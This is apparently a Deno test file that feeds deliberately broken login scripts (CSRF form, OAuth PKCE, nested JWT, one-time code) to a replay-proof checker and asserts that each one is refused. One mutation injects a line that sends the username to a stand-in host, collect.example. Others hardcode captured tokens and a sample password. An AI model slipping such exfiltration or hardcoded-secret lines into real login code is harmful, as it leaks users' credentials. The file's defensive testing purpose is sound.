/** Wrong scripts: each is refused, and the proof says what is wrong with it. */
import assert from "node:assert/strict";
import type { Mismatch } from "../../lib/replay/proof.ts";
import { formCsrf, RECORDED_CSRF, RECORDED_SESSION } from "./flows/form_csrf.ts";
import { nestedJwt, RECORDED_JWT } from "./flows/nested_jwt.ts";
import { oauthPkce, RECORDED_ACCESS_TOKEN } from "./flows/oauth_pkce.ts";
import { oneTimeCode } from "./flows/one_time_code.ts";
import { proveCase } from "./flows/prove_case.ts";
import { type Case, mutate } from "./flows/recording.ts";

interface Mutation {
  readonly name: string;
  readonly from: string;
  readonly to: string;
  /** Fits `where: problem` of one mismatch. */
  readonly finds: RegExp;
}

const FORM: readonly Mutation[] = [
  {
    name: "a captured CSRF token in the code",
    from: "csrf_token: form.fields.csrf_token!",
    to: `csrf_token: ${JSON.stringify(RECORDED_CSRF)}`,
    finds:
      /^body field "csrf_token": holds a recorded value, to be taken from the answer of t_0001, form field "csrf_token"$/,
  },
  {
    name: "the CSRF field left out",
    from: "csrf_token: form.fields.csrf_token!,",
    to: "",
    finds: /^body field "csrf_token": is missing$/,
  },
  {
    name: "the login page skipped",
    from: 'await session("https://desk.example/login")',
    to: "new Response('<form action=\"https://desk.example/session?step=1\">')",
    finds: /^order: comes before step s1$/,
  },
  {
    name: "a field of the form that is too short to be replaced as text",
    from: "tz: form.fields.tz!",
    to: 'tz: "7"',
    finds:
      /^body field "tz": holds a recorded value, to be taken from the answer of t_0001, form field "tz"$/,
  },
  {
    name: "a personal user name in the code",
    from: "user: username",
    to: 'user: "alice.b"',
    finds: /^body field "user": is not a user name that is asked for: /,
  },
  {
    name: "a personal password in the code, never used",
    from: "export async",
    to: "// try Hunter2!blue\nexport async",
    finds: /^script line 2: holds the captured value of password$/,
  },
  {
    name: "the password not encoded",
    from: `body: new URLSearchParams({
      csrf_token: form.fields.csrf_token!,
      tz: form.fields.tz!,
      user: username,
      pass: password,
    }).toString(),`,
    to: "body: `csrf_token=${encodeURIComponent(form.fields.csrf_token!)}&tz=${form.fields.tz}" +
      "&user=${username}&pass=${password}`,",
    finds: /^body field "pass": /,
  },
  {
    name: "the password encoded twice",
    from: "pass: password",
    to: "pass: encodeURIComponent(password)",
    finds: /^body field "pass": is not a password that is asked for: /,
  },
  {
    name: "a required header left out",
    from: '"X-Client": "web-3.1",',
    to: "",
    finds: /^header "X-Client": is missing$/,
  },
  {
    name: "another version of the client",
    from: '"X-Client": "web-3.1"',
    to: '"X-Client": "web-4.0"',
    finds: /^header "X-Client": is not what the recorded client sent$/,
  },
  {
    name: "JSON in place of a form",
    from: '"Content-Type": "application/x-www-form-urlencoded"',
    to: '"Content-Type": "application/json"',
    finds: /^header "Content-Type": is application\/json, not application\/x-www-form/,
  },
  {
    name: "a cookie jar that forgets",
    from: "const answer = await session(",
    to: "const answer = await fetch(",
    finds: /^cookie "sid": is missing$/,
  },
  {
    name: "a stale session cookie in the result",
    from: "headers: { Cookie: cookie }",
    to: `headers: { Cookie: "sid=${RECORDED_SESSION}" }`,
    finds:
      /^result cookie "sid": holds a recorded value, to be taken from the answer of t_0002, cookie "sid"$/,
  },
  {
    name: "the cookie of before the login in the result",
    from: 'session.cookie_header("https://desk.example/api/items")',
    to: 'page.headers.getSetCookie()[0]!.split(";")[0]!',
    finds: /^result cookie "sid": is not the value the last answer has set$/,
  },
  {
    name: "a field the site never saw",
    from: "pass: password,",
    to: 'pass: password, remember: "1",',
    finds: /^body field "remember": is sent and the recorded request has none$/,
  },
  {
    name: "the form sent to another place",
    from: "session(form.action, {",
    to: 'session("https://desk.example/signin", {',
    finds: /^request POST https:\/\/desk\.example\/signin: is not part of the login$/,
  },
  {
    name: "the form sent by GET",
    from: 'method: "POST",',
    to: 'method: "PUT",',
    finds: /^request PUT .*: is not part of the login$/,
  },
  {
    name: "the form sent twice",
    from: "if (answer.status !== 200)",
    to: `await session(form.action, { method: "POST",
      headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: "again=1" });
  if (answer.status !== 200)`,
    finds: /^request POST .*: is sent a second time$/,
  },
  {
    name: "a password that is never asked for",
    from: 'await prompt_secret("Password")',
    to: '"guess"',
    finds: /^input password: was never asked for$|^body field "pass": is not password$/,
  },
  {
    name: "a password asked for twice",
    from: "const session =",
    to: 'await prompt_secret("Password");\n  const session =',
    finds: /^prompt "Password": asks for password again$/,
  },
  {
    name: "a question the login does not need",
    from: "const session =",
    to: 'await prompt_text("Favourite colour");\n  const session =',
    finds: /^prompt "Favourite colour": asks for something the login does not need$/,
  },
  {
    name: "a request to another host",
    from: "const session =",
    to: 'await fetch("https://collect.example/?u=" + username).catch(() => {});\n  const session =',
    finds: /^request to collect\.example:443: goes to a host of no step$/,
  },
  {
    name: "an empty result",
    from: "headers: { Cookie: cookie }",
    to: "headers: {}",
    finds: /^result cookie "sid": is missing$/,
  },
  {
    name: "a swallowed error and a made-up result",
    from: 'await session("https://desk.example/login");',
    to: `await session("https://desk.example/login");
  try { throw new Error("x") } catch { return { headers: { Cookie: "sid=abc" } } }`,
    finds: /^request: was never made$/,
  },
  {
    name: "a lifetime in milliseconds",
    from: "expires_in: 3600",
    to: "expires_in: 3600000",
    finds: /^result expires_in: is far from the lifetime in the recording$/,
  },
  {
    name: "a mistake of its own",
    from: "html_forms(await page.text(), page.url)",
    to: "html_forms((undefined as any).text)",
    finds: /^script line \d+: failed: TypeError/,
  },
];

const OAUTH: readonly Mutation[] = [
  {
    name: "a captured access token in the result",
    from: '"Bearer " + tokens.access_token',
    to: `"Bearer ${RECORDED_ACCESS_TOKEN}"`,
    finds:
      /^result header "authorization": holds a recorded value, to be taken from the answer of t_0003, JSON "access_token"$/,
  },
  {
    name: "another prefix in the result",
    from: '"Bearer " + tokens.access_token',
    to: '"Token " + tokens.access_token',
    finds: /^result header "authorization": is not the value that the recorded client sent/,
  },
  {
    name: "a wrong extractor",
    from: '"Bearer " + tokens.access_token',
    to: '"Bearer " + tokens.refresh_token',
    finds: /^result header "authorization": is not the value that the recorded client sent/,
  },
  {
    name: "the captured state",
    from: 'authorize.searchParams.set("state", state)',
    to: 'authorize.searchParams.set("state", "9f8e7d6c5b4a39281706f5e4d3c2b1a0")',
    finds: /^query parameter "state": is as recorded where the client makes up a new value$/,
  },
  {
    name: "no state at all",
    from: 'authorize.searchParams.set("state", state);',
    to: "",
    finds: /^query parameter "state": is missing$/,
  },
  {
    name: "a verifier that is not the one of the challenge",
    from: "code_verifier: verifier",
    to: 'code_verifier: verifier.split("").reverse().join("")',
    finds: /^body field "code_verifier": does not fit query parameter "code_challenge" of t_0001$/,
  },
  {
    name: "a challenge in plain base64",
    from: 'authorize.searchParams.set("code_challenge", base64Url(new Uint8Array(digest)))',
    to:
      'authorize.searchParams.set("code_challenge", btoa(String.fromCharCode(...new Uint8Array(digest))))',
    finds: /^body field "code_verifier": does not fit query parameter "code_challenge" of t_0001$/,
  },
  {
    name: "a verifier too short for the specification",
    from: "base64Url(crypto.getRandomValues(new Uint8Array(33)))",
    to: "base64Url(crypto.getRandomValues(new Uint8Array(9)))",
    finds: /^body field "code_verifier": has not the form of what the recorded client makes up$/,
  },
  {
    name: "the code exchanged before the login",
    from: "const answer = await session(",
    to: `await session("https://id.provider.example/token", form({ grant_type: "authorization_code",
    client_id: "web-7c21", code: "x", code_verifier: verifier, redirect_uri: "https://shop.example/callback" }));
  const answer = await session(`,
    finds: /^order: comes before step s2$/,
  },
  {
    name: "a captured session code in the path",
    from: '" + interaction + "',
    to: "Zk3-qT8vLw1xYb6R",
    finds:
      /^path segment 2: holds a recorded value, to be taken from the answer of t_0001, cookie "_interaction"$/,
  },
  {
    name: "no refresh token in the result",
    from: "refresh_token: tokens.refresh_token,\n",
    to: "",
    finds: /^result refresh_token: is missing$/,
  },
];

const REFRESH: readonly Mutation[] = [
  {
    name: "the old refresh token kept where a new one came",
    from: "return toResult(await answer.json());\n}\n",
    to: "return { ...toResult(await answer.json()), refresh_token: current };\n}\n",
    finds: /^result refresh_token: is another value than the refresh token of the answer$/,
  },
  {
    name: "a refresh token of its own",
    from: "refresh_token: current,",
    to: 'refresh_token: "rt-something-else",',
    finds: /^body field "refresh_token": is not the refresh token$/,
  },
  {
    name: "a refresh that asks the user",
    from: "const answer = await fetch(",
    to: 'await prompt_text("Username");\n  const answer = await fetch(',
    finds: /^prompt "Username": asks for something the login does not need$/,
  },
  {
    name: "a refresh without a request",
    from: `const answer = await fetch("https://id.provider.example/token", form({
    grant_type: "refresh_token",
    client_id: "web-7c21",
    refresh_token: current,
  }));
  return toResult(await answer.json());`,
    to: 'return { headers: { Authorization: "Bearer " + current } };',
    finds: /^request: was never made$/,
  },
];

const NESTED: readonly Mutation[] = [
  {
    name: "a captured JWT",
    from: '"Authorization": "Bearer " + bag.token',
    to: `"Authorization": "Bearer ${RECORDED_JWT}"`,
    finds:
      /^header "Authorization": holds a recorded value, to be taken from the answer of t_0001, cookie "auth"$/i,
  },
  {
    name: "a personal id in a path",
    from: '"https://board.example/api/users/" + id + "/rights"',
    to: '"https://board.example/api/users/42/rights"',
    finds:
      /^path segment 3: holds a recorded value, to be taken from the answer of t_0001, JSON "user\.id"$/,
  },
  {
    name: "a personal id in the body parameters",
    from: '"params.user": id',
    to: '"params.user": 42',
    finds:
      /^result parameter "params\.user": holds a recorded value, to be taken from the answer of t_0001, JSON "user\.id"$/,
  },
  {
    name: "a short captured value in a header",
    from: '"X-Csrf": bag.csrf',
    to: '"X-Csrf": "q9x"',
    finds:
      /^header "X-Csrf": holds a recorded value, to be taken from the answer of t_0001, cookie "auth"$/i,
  },
  {
    name: "a constant of another type",
    from: "remember: true",
    to: 'remember: "true"',
    finds: /^body field "remember": is not of type boolean$/,
  },
  {
    name: "a user name sent as a number",
    from: "JSON.stringify({ user, ",
    to: "JSON.stringify({ user: 7, ",
    finds: /^body field "user": is not of type string$/,
  },
  {
    name: "the lifetime read as a moment",
    from: "claims.exp - Math.floor(Date.now() / 1000)",
    to: "claims.exp",
    finds: /^result expires_in: is far from the lifetime/,
  },
  {
    name: "a result header left out",
    from: ', "X-Scope": key',
    to: "",
    finds: /^result header "X-Scope": is missing$/,
  },
  {
    name: "a result parameter left out",
    from: "query_params: { csrf: bag.csrf },",
    to: "",
    finds: /^result parameter "csrf": is missing$/,
  },
  {
    name: "a captured value in a header nobody asked for",
    from: '"X-Scope": key }',
    to: '"X-Scope": key, "X-User": "alice.b" }',
    finds: /^result header "X-User": holds a recorded value/,
  },
];

const CODE: readonly Mutation[] = [
  {
    name: "a code asked for before it is sent",
    from: `const email = await prompt_text("Email");`,
    to: `const early = await prompt_text("One-time code");
  const email = await prompt_text("Email");`,
    finds: /^prompt "One-time code": comes before step s1 was answered$/,
  },
  {
    name: "a captured device id",
    from: "crypto.randomUUID()",
    to: '"5b1c7e52-9f0d-4c1e-8a77-2d9b6f3a1c04"',
    finds: /^script line 10: holds a value that the client makes up$/,
  },
  {
    name: "a device id that is another in each request",
    from: 'post("http://127.0.0.1:8123/otp/verify", device',
    to: 'post("http://127.0.0.1:8123/otp/verify", crypto.randomUUID()',
    finds: /^header "X-Device": is another value than header "X-Device" of t_0001, where /,
  },
  {
    name: "a device id that is not a UUID",
    from: "crypto.randomUUID()",
    to: '"my-device"',
    finds: /^header "X-Device": is not what the recorded client sent$/,
  },
  {
    name: "a captured time",
    from: "at: Date.now()",
    to: "at: 1715679002000",
    finds: /^body field "at": is the moment of the recording$/,
  },
  {
    name: "seconds for milliseconds",
    from: "at: Date.now()",
    to: "at: Math.floor(Date.now() / 1000)",
    finds: /^body field "at": is not the time of the request as the recorded client wrote it$/,
  },
  {
    name: "a digest of the code without the salt",
    from: "encode(salt + code)",
    to: "encode(code)",
    finds: /^body field "proof": is made up, and no standard lets the client make it up$/,
  },
  {
    name: "a captured salt",
    from: "encode(salt + code)",
    to: 'encode("f3a9c17b" + code)',
    finds:
      /^script line 14: holds a recorded value, to be taken from the answer of t_0001, JSON "salt"$/,
  },
  {
    name: "a field left out of the body",
    from: "{ challenge, proof, at: Date.now() }",
    to: "{ challenge, proof }",
    finds: /^body field "at": is missing$/,
  },
];

const groups: readonly (readonly [string, Case, readonly Mutation[]])[] = [
  ["form with CSRF token", formCsrf, FORM],
  ["code with PKCE", oauthPkce, OAUTH],
  ["nested JWT", nestedJwt, NESTED],
  ["one-time code", oneTimeCode, CODE],
];

for (const [group, subject, mutations] of groups) {
  for (const mutation of mutations) {
    Deno.test(`proveScript() refuses ${mutation.name} (${group})`, async () => {
      const proof = await proveCase(subject, mutate(subject.script, mutation.from, mutation.to));
      assert.equal(proof.passed, false);
      assertFinds(proof.mismatches, mutation.finds);
      assertNoValues(subject, proof.mismatches);
    });
  }
}

for (const mutation of REFRESH) {
  Deno.test(`proveScript() passes the login and fails the refresh: ${mutation.name}`, async () => {
    const script = mutate(oauthPkce.script, mutation.from, mutation.to);
    const proof = await proveCase(oauthPkce, script);
    assert.equal(proof.passed, true);
    assert.equal(proof.refresh, "failed");
    assertFinds(proof.mismatches, mutation.finds);
  });
}

Deno.test("proveScript() lets a login stand whose script offers no refresh", async () => {
  const withoutRefresh = oauthPkce.script.slice(
    0,
    oauthPkce.script.indexOf("export async function refresh_token"),
  );
  const proof = await proveCase(
    oauthPkce,
    mutate(withoutRefresh, "refresh_token: tokens.refresh_token,\n", ""),
  );
  assert.deepEqual(proof.mismatches, []);
  assert.equal(proof.refresh, "none");
});

function assertFinds(mismatches: readonly Mismatch[], pattern: RegExp): void {
  const lines = mismatches.map(({ where, problem }) => `${where}: ${problem}`);
  assert.ok(lines.some((line) => pattern.test(line)), lines.join("\n"));
}

/** No recorded secret is in what a proof says. */
function assertNoValues(subject: Case, mismatches: readonly Mismatch[]): void {
  const text = JSON.stringify(mismatches);
  const values = [
    ...subject.flow.inputs.map(({ recorded }) => recorded),
    ...subject.flow.steps.flatMap((step) => step.extractions).map(({ recorded }) => recorded),
  ];
  for (const value of values.filter((value) => value.length >= 8 && !value.includes("://"))) {
    assert.ok(!text.includes(value), text);
  }
}
